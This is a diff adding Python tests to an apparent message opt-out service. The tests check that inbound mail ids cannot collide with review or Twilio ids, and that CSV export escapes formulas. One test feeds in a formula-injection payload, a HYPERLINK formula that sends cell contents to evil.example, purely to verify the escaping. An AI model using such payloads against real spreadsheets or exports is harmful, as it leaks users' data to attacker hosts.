@@ -158,3 +158,44 @@ def test_mailgun_inbound_needs_its_signature(mail_client, settings):
 def test_inbound_mail_webhooks_are_closed_without_their_secrets(client):
     assert client.post("/webhooks/email/sendgrid/anything-at-all-123", data={"from": BOB, "subject": "stop"}).status_code == 403
     assert client.post("/webhooks/email/mailgun", data={"sender": BOB, "subject": "stop"}).status_code == 403
+
+
+def test_a_mail_cannot_take_the_id_of_a_review_confirmation(mail_client, settings, twilio, store):
+    """Issue 11 item 1: ids live in per-source namespaces. A mail whose Message-Id is
+    "review:1" once made the admin's later confirmation of review item 1 a silent no-op."""
+    headers = {"Authorization": f"Bearer {settings.admin_token}"}
+    alice = "+14155550777"
+    assert twilio.message("Cancel my order, it's late", sender=alice).status_code == 200
+    item = mail_client.get("/api/v1/review", headers=headers).json["items"][0]
+    form = {"from": BOB, "subject": "unsubscribe", "text": "", "headers": f"Message-ID: review:{item['id']}"}
+    assert mail_client.post(f"/webhooks/email/sendgrid/{SENDGRID_SECRET}", data=form).status_code == 200
+    decided = mail_client.post(f"/api/v1/review/{item['id']}", json={"decision": "confirm"}, headers=headers)
+    assert decided.status_code == 200 and decided.json["status"] == "confirmed"
+    assert store.subscription("sms", alice).status == "unsubscribed"
+    assert store.subscription("email", BOB).status == "unsubscribed"
+    # The API still shows each provider's id as it was sent.
+    assert [h["message_id"] for h in store_history(mail_client, headers, "email", BOB)] == [f"review:{item['id']}"]
+
+
+def test_the_same_id_from_twilio_and_from_mail_never_collide(mail_client, settings, twilio, store):
+    sid = "SM" + "a" * 32
+    assert twilio.message("STOP", sender="+14155550778", sid=sid).status_code == 200
+    form = {"from": BOB, "subject": "STOP", "text": "", "headers": f"Message-ID: {sid}"}
+    assert mail_client.post(f"/webhooks/email/sendgrid/{SENDGRID_SECRET}", data=form).status_code == 200
+    assert store.subscription("email", BOB).status == "unsubscribed"
+    assert store.subscription("sms", "+14155550778").status == "unsubscribed"
+
+
+def test_an_odd_message_id_is_kept_formula_safe_and_its_opt_out_recorded(mail_client, settings, store):
+    headers = {"Authorization": f"Bearer {settings.admin_token}"}
+    odd = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    form = {"from": BOB, "subject": "unsubscribe", "text": "", "headers": f"Message-ID: {odd}"}
+    assert mail_client.post(f"/webhooks/email/sendgrid/{SENDGRID_SECRET}", data=form).status_code == 200
+    assert store.subscription("email", BOB).status == "unsubscribed"
+    assert store_history(mail_client, headers, "email", BOB)[0]["message_id"] == odd
+    exported = mail_client.get(f"/api/v1/contacts/{BOB}/export?format=csv", headers=headers).get_data(as_text=True)
+    assert "'=HYPERLINK" in exported and ',=HYPERLINK' not in exported and ',"=HYPERLINK' not in exported
+
+
+def store_history(client, headers, channel, address):
+    return client.get(f"/api/v1/subscriptions/{channel}/{address}", headers=headers).json["history"]
